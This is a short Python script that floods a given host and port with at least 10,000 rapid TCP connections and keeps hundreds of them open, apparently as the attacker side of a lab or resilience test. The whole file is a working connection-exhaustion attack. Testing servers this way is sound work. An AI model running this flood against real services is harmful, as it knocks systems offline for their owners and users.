"""flood.py HOST PORT SECONDS: connects as fast as it can, for so long and at least 10,000 times, and
holds what it is left with. Says how often it connected. Runs on the attacker's host (lan exec)."""
import errno
import selectors
import socket
import sys
import time

host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
LEAST, HELD = 10_000, 400
PENDING = (errno.EINPROGRESS, errno.EAGAIN)
held, tried, stood = [], 0, 0
waiting = selectors.DefaultSelector()
begun = time.monotonic()
print("flooding", flush=True)
while tried < LEAST or time.monotonic() - begun < seconds:
    if len(held) >= HELD:
        held.pop(0).close()
    if len(waiting.get_map()) < HELD:
        one = socket.socket()
        one.setblocking(False)
        tried += 1
        if one.connect_ex((host, port)) in PENDING:
            waiting.register(one, selectors.EVENT_WRITE)
        else:
            held.append(one)
    for key, _ in waiting.select(0 if len(waiting.get_map()) < HELD else 0.05):
        waiting.unregister(key.fileobj)
        if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            stood += 1
        held.append(key.fileobj)
took = time.monotonic() - begun
print(f"{tried} connections tried, {stood} stood, in {took:.1f} s", flush=True)
